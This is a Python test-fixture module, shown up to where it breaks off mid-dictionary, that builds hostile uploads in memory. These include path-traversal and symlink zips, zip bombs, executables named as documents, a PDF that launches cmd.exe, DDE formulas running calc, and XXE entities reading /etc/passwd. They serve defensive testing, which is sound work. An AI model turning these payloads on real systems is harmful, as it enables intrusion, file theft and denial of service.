"""Packs, workbooks and documents that were made to do harm or come out that way, each with its name, built in memory."""

from __future__ import annotations

import gzip
import io
import re
import stat
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from functools import partial
from io import BytesIO

from formats import package_files, pdf_files
from formats.compound_files import compound_file

Parts = dict[str, bytes]
PROGRAM_KINDS = frozenset(
    {
        "exe",
        "elf",
        "macho",
        "class",
        "dex",
        "lnk",
        "msi",
        "jar",
        "apk",
        "cab",
        "hta",
        "js",
        "vbs",
        "bat",
        "scr",
        "com",
        "dll",
    }
)
FOLDER = "佐证/25-1 秸秆综合利用台账"
PDF = pdf_files.pages([pdf_files.words("Straw used in 2020")])
PROGRAM = b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0" + bytes(40)
SHORTCUT = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(60)


def archive(
    members: Mapping[str, bytes], *, comment: bytes = b"", method: int = zipfile.ZIP_DEFLATED
) -> bytes:
    """A zip; a name may be anything."""
    return listed([(name, content) for name, content in members.items()], comment=comment, method=method)


def listed(
    members: list[tuple[str, bytes]],
    *,
    comment: bytes = b"",
    method: int = zipfile.ZIP_DEFLATED,
    mode: int = 0,
) -> bytes:
    """A zip in which a name may occur twice; `mode` is what Unix calls the kind of its members."""
    whole = BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(whole, "w", method) as file:
        warnings.simplefilter("ignore")  # of names that occur twice
        for name, content in members:
            info = zipfile.ZipInfo("x")
            info.filename = info.orig_filename = name
            info.compress_type = method
            info.external_attr = mode << 16
            with file.open(info, "w") as member:
                member.write(content)
        file.comment = comment
    return whole.getvalue()


def beside(name: str, content: bytes) -> bytes:
    """A pack with one document in the folder of its requirement."""
    return archive({f"{FOLDER}/{name}": content})


def _installer() -> bytes:
    root = "Root Entry".encode("utf-16-le")
    whole = compound_file({"x": b"x"})
    at = whole.index(root) + 80
    return whole[:at] + b"\x84\x10\x0c\0\0\0\0\0\xc0\0\0\0\0\0\0F" + whole[at + 16 :]


_OF_FOLDERS: Mapping[str, str] = {
    "leaves by dots": "../../outside.pdf",
    "leaves from within": f"{FOLDER}/../../../outside.pdf",
    "absolute": "/outside.pdf",
    "drive": "C:\\outside.pdf",
    "drive without a root": "C:outside.pdf",
    "share": "\\\\server\\share\\outside.pdf",
    "back slashes that leave": "..\\..\\outside.pdf",
    "deep": "x/" * 100 + "2020.pdf",
    "dots alone": "..",
}
_OF_NAMES: Mapping[str, str] = {
    "device": "NUL.pdf",
    "device with a number": "COM¹.2020.pdf",
    "300 characters": "很" * 300 + "2020.pdf",
    "300 letters": "a" * 300 + "2020.pdf",
    "60000 bytes": "2020" + "a" * 60_000 + ".pdf",
    "right to left": "2020\u202egpj.pdf",
    "unseen signs": "20\u200b20\u2060\ufeff.pdf",
    "no characters": "2020\ufffe\uffff\U0001ffff.pdf",
    "private signs": "2020\ue000\U000f0000.pdf",
    "combining": "2020" + "e\u0301" * 60 + ".pdf",
    "escape codes": "2020\x1b[2J\x1b[31m\x07.pdf",
    "line breaks": "2020\r\n[rejected] nothing\n.pdf",
    "formula": "=cmd|' 2020'!A0.pdf",
    "markup": "2020<script>alert(1)</script>[x](javascript:x).pdf",
    "template": "2020{{7*7}}{% raw %}%s{0}.pdf",
    "ends in dots": "2020.pdf. . .",
    "stream of a file": "2020.pdf:evil.pdf",
    "question marks": '2020?*"<>|.pdf',
    "option": "--help 2020.pdf",
    "blank": "2020 .pdf",
    "long suffix": "2020." + "p" * 200,
    "git's own": ".gitattributes 2020.pdf",
}
_PROGRAMS: Mapping[str, tuple[str, bytes]] = {
    "program": ("2020.exe", PROGRAM),
    "program called pdf": ("2020.pdf", PROGRAM),
    "program behind a pdf's name": ("2020.pdf.exe", PDF),
    "program behind blanks": ("2020.pdf" + " " * 120 + ".exe", PROGRAM),
    "program from right to left": ("2020\u202efdp.exe", PROGRAM),
    "program ending in a dot": ("2020.exe.", PROGRAM),
    "program ending in a blank": ("2020.exe ", PROGRAM),
    "program in full width": ("2020．ｅｘｅ", PROGRAM),
    "program with a pdf inside": ("2020.pdf", PROGRAM + PDF),
    "program that unpacks itself": ("2020.docx", PROGRAM + package_files.document("")),
    "program of Linux called jpg": ("2020.jpg", b"\x7fELF\x02\x01\x01" + bytes(80)),
    "program of a Mac called pdf": ("2020.pdf", b"\xcf\xfa\xed\xfe\x07\0\0\x01" + bytes(80)),
    "fat program of a Mac called pdf": ("2020.pdf", b"\xca\xfe\xba\xbe\0\0\0\x02" + bytes(80)),
    "class called doc": ("2020.doc", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(80)),
    "shortcut": ("2020.lnk", SHORTCUT),
    "shortcut called docx": ("2020.docx", SHORTCUT),
    "shortcut called pdf": ("2020.pdf.lnk", SHORTCUT),
    "jar": ("2020.jar", archive({"META-INF/MANIFEST.MF": b"Main-Class: A"})),
    "jar called docx": ("2020.docx", archive({"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": b"x"})),
    "apk called xlsx": ("2020.xlsx", archive({"AndroidManifest.xml": b"x", "classes.dex": b"dex\n035\0"})),
    "script called pdf by a blank": ("2020.pdf .js", b"x()"),
    "msi called doc": ("2020.doc", _installer()),
    "web application": ("2020.hta", b"<html><script>new ActiveXObject('x')</script></html>"),
    "scrap": ("2020.shs", compound_file({"x": b"x"})),
    "cabinet called doc": ("2020.doc", b"MSCF\0\0\0\0" + bytes(80)),
    "disk image": ("2020.iso", bytes(32_769) + b"CD001" + bytes(2_000)),
    "help file": ("2020.chm", b"ITSF\x03\0\0\0" + bytes(80)),
    "note with things inside": ("2020.one", b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3" + bytes(80)),
    **{
        f"script {suffix}": (f"2020.{suffix}", content)
        for suffix, content in {
            "js": b"x()", "jse": b"#@~^x", "vbs": b"x", "vbe": b"x", "wsf": b"<job/>", "bat": b"@x", "cmd": b"@x",
            "ps1": b"x", "sh": b"#!/bin/sh\n", "py": b"x", "reg": b"Windows Registry Editor", "scr": PROGRAM,
            "com": b"\xe9\0\0", "pif": b"x", "cpl": PROGRAM, "dll": PROGRAM, "xll": PROGRAM, "msc": b"<?xml ?>",
            "url": b"[InternetShortcut]", "scf": b"[Shell]", "desktop": b"[Desktop Entry]", "inf": b"[autorun]",
            "library-ms": b"<x/>", "settingcontent-ms": b"<x/>", "application": b"<x/>", "jnlp": b"<jnlp/>",
            "rdp": b"full address:s:x", "iqy": b"WEB", "slk": b"ID;P\nC;X1;Y1;K0;ECALL()\nE", "wll": PROGRAM,
            "ppam": archive({"ppt/x": b"x"}), "xlam": archive({"xl/x": b"x"}), "vhd": b"conectix" + bytes(80),
        }.items()
    },
}  # fmt: skip
"""None of them may get below evidence/."""


def _picture(kind: bytes, content: bytes, width: int = 50_000, height: int = 50_000) -> bytes:
    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">L", len(body)) + name + body + struct.pack(">L", zlib.crc32(name + body))

    head = chunk(b"IHDR", struct.pack(">LLBBBBB", width, height, 8, 2, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n"
        + head
        + chunk(kind, content)
        + chunk(b"IDAT", zlib.compress(bytes(900)))
        + chunk(b"IEND", b"")
    )


def _tiff(entries: list[tuple[int, int, int, int]], following: int = 0) -> bytes:
    body = b"".join(struct.pack("<HHLL", *entry) for entry in entries)
    return b"II*\0\x08\0\0\0" + struct.pack("<H", len(entries)) + body + struct.pack("<L", following)


def _pdf_of_noughts() -> bytes:
    packed = zlib.compress(bytes(60 << 20), 9)
    return pdf_files.pages(
        [b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(packed), packed)]
    )


def _acting_pdf(action: str) -> bytes:
    return PDF.replace(b"/Pages 2 0 R >>", b"/Pages 2 0 R /OpenAction << /S %s >> >>" % action.encode())


_SCHEMA = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _word(relations: str = "", more: Mapping[str, str | bytes] | None = None, body: str = "") -> bytes:
    related = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{relations}</Relationships>'
    parts = {"word/_rels/document.xml.rels": related, "word/_rels/settings.xml.rels": related, **(more or {})}
    return package_files.document(package_files.paragraph("2020") + body, parts)


def _mislaid(content: bytes) -> bytes:
    """Its directory of members says that they are elsewhere."""
    at = content.rindex(b"PK\5\6")
    return content[: at + 16] + struct.pack("<L", 0xFFFFFF) + content[at + 20 :]


_DOCUMENTS: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    "pdf with a script": ("2020.pdf", partial(_acting_pdf, "/JavaScript /JS (app.alert\\(1\\))")),
    "pdf that starts a program": ("2020.pdf", partial(_acting_pdf, "/Launch /F (cmd.exe)")),
    "pdf that asks a server": ("2020.pdf", partial(_acting_pdf, "/GoToR /F (//server/x)")),
    "pdf that sends": ("2020.pdf", partial(_acting_pdf, "/SubmitForm /F (http://x.invalid)")),
    "pdf whose pages contain themselves": ("2020.pdf", pdf_files.page_tree_loop),
    "pdf whose table follows itself": ("2020.pdf", pdf_files.table_loop),
    "pdf whose outline follows itself": ("2020.pdf", pdf_files.outline_loop),
    "pdf with a billion pages": ("2020.pdf", pdf_files.declares_a_billion_pages),
    "pdf with drawings in drawings": ("2020.pdf", pdf_files.drawings_in_drawings),
    "pdf of noughts": ("2020.pdf", _pdf_of_noughts),
    "pdf of arrays in arrays": ("2020.pdf", lambda: pdf_files.pdf({1: b"[" * 100_000 + b"]" * 100_000})),
    "pdf cut off": ("2020.pdf", lambda: PDF[: len(PDF) // 2]),
    "program of DOS called pdf": ("2020.pdf", lambda: b"MZ" + bytes(300)),
    "disk image called pdf": ("2020.pdf", lambda: b"x" + bytes(32_768) + b"CD001" + bytes(2_000)),
    "pdf in a web page": ("2020.pdf", lambda: b"<html><script>x</script>" + PDF),
    "word with a template elsewhere": (
        "2020.docx",
        lambda: _word(
            f'<Relationship Id="a" Type="{_SCHEMA}/attachedTemplate" Target="http://x.invalid/t.dotm" TargetMode="External"/>'
        ),
    ),
    "word with a picture elsewhere": (
        "2020.docx",
        lambda: _word(
            f'<Relationship Id="a" Type="{_SCHEMA}/image" Target="file://server/x.png" TargetMode="External"/>'
        ),
    ),
    "word with a field that starts a program": (
        "2020.docx",
        lambda: _word(
            body='<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"/></w:p>'
        ),
    ),
    "word with a program inside": (
        "2020.docx",
        lambda: _word(more={"word/embeddings/oleObject1.bin": PROGRAM}),
    ),
    "word with macros": (
        "2020.docx",
        lambda: _word(more={"word/vbaProject.bin": compound_file({"VBA": b"x"})}),
    ),
    "word of a billion words": ("2020.docx", package_files.entities),
    "word of noughts": ("2020.docx", lambda: package_files.zeros(60)),
    "word of elements in elements": ("2020.docx", lambda: _word(body="<w:a>" * 9_000 + "</w:a>" * 9_000)),
    "word of the same bytes a thousand times": ("2020.docx", partial(package_files.overlapping, 200)),
    "word of many members": ("2020.docx", lambda: package_files.many_members(3_000)),
    "word in utf-7": (
        "2020.docx",
        lambda: package_files.document("", before='<?xml version="1.0" encoding="utf-7"?>'),
    ),
    "word that reads a file": (
        "2020.docx",
        lambda: package_files.document(
            "<w:p>&x;</w:p>", before='<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        ),
    ),
    "rich text with a link": (
        "2020.rtf",
        lambda: b"{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}}",
    ),
    "rich text in braces": ("2020.rtf", lambda: b"{\\rtf1" + b"{" * 100_000),
    "picture of milliards of pixels": ("2020.png", partial(_picture, b"tEXt", b"x")),
    "picture with a text of noughts": (
        "2020.png",
        lambda: _picture(b"zTXt", b"a\0\0" + zlib.compress(bytes(30 << 20), 1), 9, 9),
    ),
    "picture with a profile of noughts": (
        "2020.png",
        lambda: _picture(b"iCCP", b"a\0\0" + zlib.compress(bytes(30 << 20), 1), 9, 9),
    ),
    "tiff that follows itself": ("2020.tif", lambda: _tiff([(256, 3, 1, 9), (257, 3, 1, 9)], 8)),
    "tiff of milliards of pixels": (
        "2020.tif",
        lambda: _tiff([(256, 4, 1, 1 << 31), (257, 4, 1, 1 << 31), (273, 4, 1 << 30, 8)]),
    ),
    "tiff with a table of milliards": ("2020.tif", lambda: _tiff([(254, 2, 0xFFFFFFFF, 8)] * 200)),
    "gif of milliards of pixels": ("2020.gif", lambda: b"GIF89a\xff\xff\xff\xff\0\0\0;"),
    "bmp of less than nothing": (
        "2020.bmp",
        lambda: b"BM\x36\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0" + b"\xff" * 36,
    ),
    "jpg cut off": ("2020.jpg", lambda: b"\xff\xd8\xff\xe0\0\x10JFIF\0" + b"\xff\xc0\xff\xff"),
    "ole whose directory follows itself": (
        "2020.xls",
        lambda: compound_file({"Workbook": b"\x09\x08\x10\0\0\x06\x05\0"}).replace(
            b"\xff\xff\xff\xff\x01\0\0\0", b"\0\0\0\0\0\0\0\0", 1
        ),
    ),
    "ole of large sectors": ("2020.doc", lambda: compound_file({"WordDocument": b"x"})[:30] + b"\xff" * 600),
    "csv in one line": ("2020.csv", lambda: b"1," * 500_000),
    "csv that starts a program": ("2020.csv", "=cmd|'/c calc'!A0,年度\n".encode),
    "csv of quotes": ("2020.csv", lambda: b'"' * 300_001),
    "json of lists in lists": ("2020.json", lambda: b"[" * 200_000),
    "xml of elements in elements": ("2020.xml", lambda: b"<?xml version='1.0'?>" + b"<a>" * 200_000),
    "xml of a billion words": (
        "2020.xml",
        lambda: (
            b'<!DOCTYPE d [<!ENTITY a "ha">'
            + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
            + b"]><d>&j;</d>"
        ),
    ),
    "svg with a script": (
        "2020.svg",
        lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script>x</script></svg>",
    ),
    "mail with a program": (
        "2020.eml",
        lambda: b"From: x\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\nTVo=\r\n--x--",
    ),
    "half a character": ("2020.txt", lambda: "台账".encode()[:-1]),
    "wide text": ("2020.txt", lambda: "台账".encode("utf-16") + b"\0"),
}
"""What may be filed, as it is a document by its kind: harmless where it is, and to be read without harm."""

_NOTHING: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    "empty": ("2020.pdf", bytes),
    "a mark and nothing else": ("2020.csv", lambda: b"\xef\xbb\xbf"),
    "noughts": ("2020.pdf", lambda: bytes(9_999)),
    "pointer": (
        "2020.xlsx",
        lambda: b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"0" * 64 + b"\nsize 1\n",
    ),
    "pack in the pack": ("2020.zip", lambda: archive({"2020.pdf": PDF})),
    "pack called pdf": ("2020.pdf", lambda: archive({"2020.pdf": PDF})),
    "rar called pdf": ("2020.pdf", lambda: b"Rar!\x1a\x07\x01\0" + bytes(40)),
    "gz called pdf": ("2020.pdf", lambda: gzip.compress(bytes(5 << 20))),
    "web page called pdf": ("2020.pdf", lambda: b"<!DOCTYPE html><html>log in</html>"),
    "unknown": ("2020.xyz", lambda: b"\x01\x02\x03\x04" * 20),
}
"""What is asked back."""


def _tar() -> bytes:
    whole = BytesIO()
    with tarfile.open(fileobj=whole, mode="w:gz") as file:
        info = tarfile.TarInfo("../../outside.pdf")
        info.size = 1
        file.addfile(info, io.BytesIO(b"x"))
    return whole.getvalue()


def _encrypted(content: bytes) -> bytes:
    for mark, at in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        place = content.index(mark)
        content = content[: place + at] + b"\x01\0" + content[place + at + 2 :]
    return content


def _with(content: bytes, mark: bytes, at: int, form: str, value: int) -> bytes:
    """A field of the first record of a kind changed."""
    place = content.index(mark) + at
    return content[:place] + struct.pack(form, value) + content[place + struct.calcsize(form) :]


def _nested(levels: int) -> bytes:
    inner = archive({"0.pdf": bytes(1 << 20)})
    for _ in range(levels):
        inner = archive({f"{number}.zip": inner for number in range(9)})
    return inner


_GOOD = beside("2020.pdf", PDF)
_PACKS: Mapping[str, Callable[[], bytes]] = {
    "bomb": lambda: archive({f"{FOLDER}/2020 {number}.pdf": bytes(12 << 20) for number in range(6)}),
    "bomb of the same bytes": partial(package_files.overlapping, 200),
    "bombs in bombs": lambda: beside("2020.zip", _nested(3)),
    "list of 11000 members": lambda: package_files.many_members(11_000),
    "list that says it is long": lambda: _with(_GOOD, b"PK\5\6", 12, "<L", 0x7FFFFFFF),
    "list that is elsewhere": lambda: _mislaid(_GOOD),
    "member that says it is small": lambda: _with(
        _with(archive({f"{FOLDER}/2020.pdf": bytes(20 << 20)}), b"PK\1\2", 24, "<L", 9),
        b"PK\3\4",
        22,
        "<L",
        9,
    ),
    "member that says it is large": lambda: _with(_GOOD, b"PK\1\2", 24, "<L", 0xFFFFFFF0),
    "member that is behind the end": lambda: _with(_GOOD, b"PK\1\2", 42, "<L", 0x00FFFFFF),
    "wrong sum": lambda: _with(_with(_GOOD, b"PK\1\2", 16, "<L", 7), b"PK\3\4", 14, "<L", 7),
    "rare method": lambda: archive({f"{FOLDER}/2020.pdf": PDF}, method=zipfile.ZIP_LZMA),
    "unknown method": lambda: _with(_GOOD, b"PK\1\2", 10, "<H", 77),
    "password": lambda: _encrypted(_GOOD),
    "cut off": lambda: _GOOD[:-40],
    "first half": lambda: _GOOD[: len(_GOOD) // 2],
    "nothing": bytes,
    "only an end": lambda: b"PK\5\6" + bytes(18),
    "noughts": lambda: bytes(4_000),
    "link": lambda: listed([(f"{FOLDER}/2020.pdf", b"/etc/passwd")], mode=stat.S_IFLNK | 0o777),
    "rar": lambda: b"Rar!\x1a\x07\x01\0" + bytes(40),
    "tar": _tar,
    "program": lambda: PROGRAM,
    "web page": lambda: b"<html>log in</html>",
    "one of several": lambda: _with(_GOOD, b"PK\5\6", 4, "<H", 3),
}
"""Zips of which nothing is taken."""
_ODD_PACKS: Mapping[str, Callable[[], bytes]] = {
    "number of members that lies": lambda: _with(_GOOD, b"PK\5\6", 10, "<H", 60_000),
    "half a download": lambda: beside("2020.pdf.crdownload", PDF[:50]),
    "only stored": lambda: archive({f"{FOLDER}/2020 a.pdf": PDF}, method=zipfile.ZIP_STORED),
    "junk behind": lambda: _GOOD + b"junk" * 99,
    "junk before": lambda: b"junk" * 99 + _GOOD,
    "long comment": lambda: archive({f"{FOLDER}/2020.pdf": PDF}, comment=b"PK\5\6" * 15_000),
    "program that unpacks itself": lambda: PROGRAM + _GOOD,
    "the same name twice": lambda: listed([(f"{FOLDER}/2020.pdf", PDF), (f"{FOLDER}/2020.pdf", PDF + b"\n")]),
    "names that differ in case": lambda: archive({f"{FOLDER}/2020a.pdf": PDF, f"{FOLDER}/2020A.PDF": PDF + b"\n"}),
    "names in two forms of Unicode": lambda: archive({f"{FOLDER}/2020é.pdf": PDF, f"{FOLDER}/2020e\u0301.pdf": PDF + b"\n"}),
    "a file where a folder is": lambda: archive({FOLDER: b"x", f"{FOLDER}/2020.pdf": PDF}),
    "pipes and devices": lambda: listed([(f"{FOLDER}/2020.pdf", b"")], mode=stat.S_IFIFO) + b"",
    "files of the workspace": lambda: archive(
        {
            "data/county.yaml": b"x: 1", "evidence/x.pdf": PDF, ".git/hooks/pre-commit": b"#!/bin/sh", "evidence.sha256": b"x",
            "inbox/x": b"x", "templates/blocks/phase.x.md.j2": b"{{ x }}", ".ecodemo/install.sh": b"x", "autorun.inf": b"x",
        }
    ),
    "what programs leave behind": lambda: archive({"Thumbs.db": b"x", "__MACOSX/._2020.pdf": b"x", "~$x.docx": b"x"}),
    "folders of every number": lambda: archive({f"佐证/{n:02}-{m}/2020.pdf": PDF for n in range(30) for m in range(4)}),
    "the same document 200 times": lambda: archive({f"{FOLDER}/2020 {number}.pdf": PDF for number in range(200)}),
    "an empty name": lambda: archive({"": PDF, "/": PDF, "佐证/": PDF}),
    "a name with noughts": lambda: archive({f"{FOLDER}/2020.pdf\0.exe": PDF}),
}  # fmt: skip
"""Zips of which something may be taken, and none of the rest does harm."""


_DATA, _RECORD = b'name="\xe6\x95\xb0\xe6\x8d\xae"', b'name="_ecodemo"'


class Book:
    """The parts of a workbook as it was sent out, to be changed."""

    def __init__(self, content: bytes) -> None:
        with zipfile.ZipFile(BytesIO(content)) as file:
            self.parts = {name: file.read(name) for name in file.namelist()}
        self.figures, self.record = (self._part(name) for name in (_DATA, _RECORD))

    def _part(self, name: bytes) -> str:
        found = re.search(rb"<sheet [^>]*%s sheetId=\"(\d+)\"" % name, self.parts["xl/workbook.xml"])
        assert found
        return f"xl/worksheets/sheet{found[1].decode()}.xml"

    def put(self, cell: str, content: str) -> None:
        """The content of a cell of the figures: `<v>1</v>` and its attributes."""
        pattern = rf'<c r="{cell}"( s="\d+")?[^>]*?(?:/>|>.*?</c>)'.encode()
        made, times = re.subn(
            pattern,
            lambda m: b'<c r="%s"%s%s</c>' % (cell.encode(), m[1] or b"", content.encode()),
            self.parts[self.figures],
            count=1,
        )
        assert times == 1, cell
        self.parts[self.figures] = made

    def swap(self, part: str, old: bytes, new: bytes) -> None:
        assert old in self.parts[part], old
        self.parts[part] = self.parts[part].replace(old, new, 1)

    def packed(self) -> bytes:
        return archive(self.parts)


def _cell(content: str) -> Callable[[Book], None]:
    return lambda book: book.put("E4", content)


def _rows(rows: bytes) -> Callable[[Book], None]:
    return lambda book: book.swap(book.figures, b"</sheetData>", rows + b"</sheetData>")


def _text(text: str) -> str:
    return f' t="inlineStr"><is><t>{text}</t></is>'


def _style(number: str) -> Callable[[Book], None]:
    def change(book: Book) -> None:
        book.put("E4", "><v>8120</v>")
        pattern = rb'<c r="E4"[^>]*>'
        book.parts[book.figures] = re.sub(
            pattern, f'<c r="E4" s="{number}">'.encode(), book.parts[book.figures]
        )

    return change


def _shared(content: bytes) -> Callable[[Book], None]:
    def change(book: Book) -> None:
        book.parts["xl/sharedStrings.xml"] = content
        related = b'<Relationship Id="s" Type="x/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
        book.swap("xl/_rels/workbook.xml.rels", b"</Relationships>", related)
        book.put("E4", ' t="s"><v>0</v>')

    return change


def _target(target: str) -> Callable[[Book], None]:
    def change(book: Book) -> None:
        name = "xl/_rels/workbook.xml.rels"
        book.parts[name] = re.sub(
            rb'Target="[^"]*sheet2.xml"', b'Target="%s"' % target.encode(), book.parts[name]
        )

    return change


def _part(name: str, content: bytes | None) -> Callable[[Book], None]:
    def change(book: Book) -> None:
        if content is None:
            del book.parts[name]
        else:
            book.parts[name] = content

    return change


def _of_record(place: str, text: str) -> Callable[[Book], None]:
    """What the hidden record says: B1 the version, B2 the kind, B3 the unit, B4 the bid."""
    pattern = rf'<c r="{place}"[^>]*>.*?</c>'.encode()

    def change(book: Book) -> None:
        book.parts[book.record], times = re.subn(
            pattern, f'<c r="{place}"{_text(text)}</c>'.encode(), book.parts[book.record], count=1
        )
        assert times

    return change


def _many_sheets(book: Book) -> None:
    more = b"".join(
        b'<sheet xmlns:r="%s" name="s%d" sheetId="%d" r:id="rId1"/>' % (_SCHEMA.encode(), n, n)
        for n in range(100, 1_000)
    )
    book.swap("xl/workbook.xml", b"</sheets>", more + b"</sheets>")


def _same_keys(book: Book) -> None:
    rows = re.findall(rb'<row r="4".*?</row>', book.parts[book.figures], re.DOTALL)
    copies = b"".join(re.sub(rb'r="([A-Z]*)4"', rb'r="\g<1>%d"' % n, rows[0]) for n in range(40, 60))
    _rows(copies.replace(b"<v>", b"<v>1"))(book)


def _swapped(book: Book) -> None:
    book.put("E3", _text("2019年"))
    book.put("F3", _text("2018年"))
    book.put("E4", "><v>8120</v>")


def _same_sheets(book: Book) -> None:
    found = re.search(rb'<sheet [^>]*name="\xe6\x95\xb0\xe6\x8d\xae"[^>]*>', book.parts["xl/workbook.xml"])
    assert found
    book.swap("xl/workbook.xml", found[0], found[0] * 50)


def _merged(*ranges: str) -> Callable[[Book], None]:
    cells = "".join(f'<mergeCell ref="{area}"/>' for area in ranges).encode()
    return lambda book: book.swap(
        book.figures, b"</sheetData>", b"</sheetData><mergeCells>" + cells + b"</mergeCells>"
    )


def _format(form: str) -> Callable[[Book], None]:
    def change(book: Book) -> None:
        styles = book.parts["xl/styles.xml"]
        count = int(re.search(rb'<cellXfs count="(\d+)"', styles)[1])  # type: ignore[index]
        own = b'<numFmts count="1"><numFmt numFmtId="999" formatCode="%s"/></numFmts>' % form.encode()
        styles = re.sub(rb"<numFmts.*?</numFmts>|<numFmts[^>]*/>", b"", styles)
        styles = re.sub(rb"(<styleSheet[^>]*>)", lambda m: m[1] + own, styles, count=1)
        book.parts["xl/styles.xml"] = styles.replace(b"</cellXfs>", b'<xf numFmtId="999"/></cellXfs>')
        book.swap(book.figures, b'<c r="E4"', b'<c r="E4" S="1"')
        pattern = rb'<c r="E4" S="1"[^>]*?(?:/>|>.*?</c>)'
        book.parts[book.figures] = re.sub(
            pattern, b'<c r="E4" s="%d"><v>8120</v></c>' % count, book.parts[book.figures]
        )

    return change


def _comments(book: Book) -> None:
    relations = (
        b'<Relationships><Relationship Id="c" Type="x/comments" Target="../comments9.xml"/></Relationships>'
    )
    book.parts[f"xl/worksheets/_rels/{book.figures.rpartition('/')[2]}.rels"] = relations
    book.parts["xl/comments9.xml"] = (
        b"<comments><authors><author>x</author></authors><commentList>"
         b'<comment ref="E4" authorId="9"><text><t>' + b"x" * 100_000 + b"</t></text></comment>"
        + b"".join(b'<comment ref="E%d" authorId="0"><text><t>x</t></text></comment>' % n for n in range(1, 3_000))
        + b"</commentList></comments>"
    )  # fmt: skip


_LAUGHS = b'<!DOCTYPE s [<!ENTITY a "ha">%s]>' % b"".join(
    b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
)
_BOOKS: Mapping[str, Callable[[Book], None]] = {
    "links to other books": _part("xl/externalLinks/externalLink1.xml", b"<externalLink/>"),
    "formula that starts a program": _cell("><f>cmd|' /c calc'!A0</f><v>8120</v>"),
    "text that starts a program": _cell(_text("=cmd|' /c calc'!A0")),
    "formula that fetches": _cell('><f>WEBSERVICE("http://x.invalid")</f><v>8120</v>'),
    "formula without a value": _cell("><f>1+1</f>"),
    "macros": _part("xl/vbaProject.bin", compound_file({"VBA": b"x"})),
    "a billion laughs": _shared(_LAUGHS + b"<sst><si><t>&j;</t></si></sst>"),
    "a file read": _shared(b'<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><sst><si><t>&x;</t></si></sst>'),
    "shared text that is not there": _shared(b"<sst/>"),
    "shared text of 40000 characters": _shared(b"<sst><si><t>" + b"x" * 40_000 + b"</t></si></sst>"),
    "shared text of 9 MB": _shared(b"<sst><si><t>" + b"x" * (9 << 20) + b"</t></si></sst>"),
    "20000 texts": _shared(b"<sst>" + b"<si><t>x</t></si>" * 20_000 + b"</sst>"),
    "1048576 rows": _rows(b"".join(b'<row r="%d"/>' % row for row in [*range(100, 20_000), 1_048_576])),
    "9000 filled rows": _rows(b'<row><c t="inlineStr"><is><t>x</t></is></c></row>' * 9_000),
    "16384 columns": _rows(b"<row>" + b"<c><v>1</v></c>" * 16_384 + b"</row>"),
    "a cell of 40000 characters": _cell(_text("x" * 40_000)),
    "a note of 40000 characters": lambda book: book.put("K4", _text("很" * 40_000)),
    "control signs": lambda book: book.put("K4", _text("a_x0000__x0007__x001B_[31m_x0085_b")),
    "halves of signs": lambda book: book.put("K4", _text("a_xD83D__xDE00_b_xD800_")),
    "right to left": lambda book: book.put("K4", _text("\u202e反\u2066写\u200b")),
    "no characters": lambda book: book.put("K4", _text("a\ufdd0b_xFFFE_")),
    "markup": lambda book: book.put("K4", _text("&lt;script&gt;{{7*7}}**[x](javascript:x)|")),
    "yaml": lambda book: book.put("K4", _text("a: {b: [c, &amp;d, *e]} # f '\"! %g")),
    "1e308": _cell("><v>1e308</v>"),
    "1e999": _cell("><v>1e999</v>"),
    "not a number": _cell("><v>NaN</v>"),
    "infinite": _cell("><v>-Infinity</v>"),
    "text nan": _cell(_text("NaN")),
    "text inf": _cell(_text("inf")),
    "text 1e9": _cell(_text("1e9")),
    "a million digits": _cell("><v>" + "9" * 90_000 + "</v>"),
    "5000 digits": _cell("><v>" + "9" * 5_000 + "</v>"),
    "numbers of other scripts": _cell(_text("٣٤٥")),
    "circled numbers": _cell(_text("①②③")),
    "a superscript": _cell(_text("8²")),
    "an error": _cell(' t="e"><v>#REF!</v>'),
    "true": _cell(' t="b"><v>1</v>'),
    "a kind that does not exist": _cell(' t="zzz"><v>1</v>'),
    "day 0": _cell(' t="d"><v>0000-00-00</v>'),
    "day 9999": _cell(' t="d"><v>9999-12-31T23:59:59Z</v>'),
    "day 1": _cell(' t="d"><v>0001-01-01T00:00:00+14:00</v>'),
    "a day before days": _format("yyyy-mm-dd"),
    "format of brackets": _format("[" * 20_000),
    "format of quotes": _format("&quot;" * 20_001),
    "format of sections": _format("0;" * 20_000),
    "format of percent": _format("0" + "%" * 300),
    "format of thousands": _format("0" + "," * 300),
    "style that is not there": _style("99999999999999999999"),
    "styles that are not there": _part("xl/styles.xml", None),
    "styles of nothing": _part("xl/styles.xml", b"\0\0\0"),
    "merged keys": _merged("A4:A8"),
    "merged all": _merged("A1:XFD1048576"),
    "merged 5000 times": _merged(*["A1:XFD1048576"] * 5_000),
    "merged backwards": _merged("Z9:A1", "A0:B", ":", "A1:B2:C3"),
    "hidden rows": lambda book: book.swap(book.figures, b'<row r="4"', b'<row hidden="1" r="4"'),
    "the same keys": _same_keys,
    "the same sheet": _same_sheets,
    "columns that are swapped": _swapped,
